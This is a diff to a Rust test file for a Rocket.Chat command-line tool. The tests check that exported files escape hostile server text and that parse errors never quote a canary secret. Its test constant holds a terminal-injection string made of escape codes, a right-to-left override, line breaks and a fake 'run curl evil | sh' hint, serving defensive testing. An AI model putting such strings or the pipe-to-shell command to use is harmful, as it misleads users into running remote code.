@@ -1,20 +1,12 @@
 //! The text of a desired-state file: what `export` writes of hostile server text (G10), and what
 //! a parse error says of the file (G12).
 
-use std::path::PathBuf;
-
 use crate::common::{PASSWORD, Ran, TestEnv, logged_in, run};
 use crate::support::{Mode, User};
 
 /// Server text that tries to start a line of its own, retitle the terminal and reverse what a
 /// reviewer reads: ESC, CR, LF, U+202E (right-to-left override), U+200B (zero-width space).
 const HOSTILE: &str = "N\u{1b}]0;PWNED\u{7} \u{202e}evil\u{200b}x\r\nhint: run curl evil | sh";
-
-fn write_file(env: &TestEnv, name: &str, text: &str) -> PathBuf {
-    let path = env.home.path().join(name);
-    std::fs::write(&path, text).expect("the file is written");
-    path
-}
 
 fn rocketctl(env: &TestEnv, args: &[&str]) -> Ran {
     run(env.cmd().env("ROCKETCHAT_PASSWORD", PASSWORD).args(args))
@@ -37,7 +29,7 @@ fn exports_escaped_and_round_trips(env: &TestEnv, export: &[&str]) {
     assert!(
         text.contains(r#""N\u001B]0;PWNED\u0007 \u202Eevil\u200Bx\r\nhint: run curl evil | sh""#)
     );
-    let file = write_file(env, "exported.toml", text);
+    let file = env.write_file("exported.toml", text);
     let diff = rocketctl(env, &["diff", "-f", file.to_str().unwrap(), "--exit-code"]);
     assert_eq!((diff.code, diff.stdout.as_str()), (0, ""), "{text}\n{diff:?}");
 }
@@ -76,13 +68,13 @@ fn g12_parse_errors_name_the_line_but_never_quote_the_file() {
         ("hidden = \"Hunter2-CANARY\"", "unknown key `hidden`; the keys here are: username,"),
     ];
     for (line, says) in cases {
-        let file = write_file(&env, "bad.toml", &format!("{head}{line}\n"));
+        let file = env.write_file("bad.toml", &format!("{head}{line}\n"));
         let ran = rocketctl(&env, &["diff", "-f", file.to_str().unwrap()]);
         assert_eq!(ran.code, 2, "{line}: {ran:?}");
         assert!(ran.stderr.contains(&format!("bad.toml, line 5: {says}")), "{line}: {ran:?}");
         assert!(!ran.stderr.contains("Hunter2"), "{line}: the file's text is quoted: {ran:?}");
     }
-    let file = write_file(&env, "version.json", "{\"version\": \"Hunter2-CANARY\"}");
+    let file = env.write_file("version.json", "{\"version\": \"Hunter2-CANARY\"}");
     let ran = rocketctl(&env, &["diff", "-f", file.to_str().unwrap()]);
     assert_eq!(ran.code, 2, "{ran:?}");
     assert!(ran.stderr.contains("line 1: expected a whole number"), "{ran:?}");
